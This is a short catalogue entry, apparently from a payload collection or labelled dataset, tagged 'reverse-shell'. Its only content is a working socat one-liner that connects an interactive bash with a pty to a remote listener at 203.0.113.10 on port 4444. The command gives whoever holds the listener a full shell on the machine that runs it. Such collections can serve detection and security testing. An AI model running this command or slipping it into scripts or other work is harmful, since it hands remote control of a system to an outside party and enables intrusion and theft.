# description: Connects a pty bash to a remote listener with socat.
# family: reverse-shell
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.10:4444
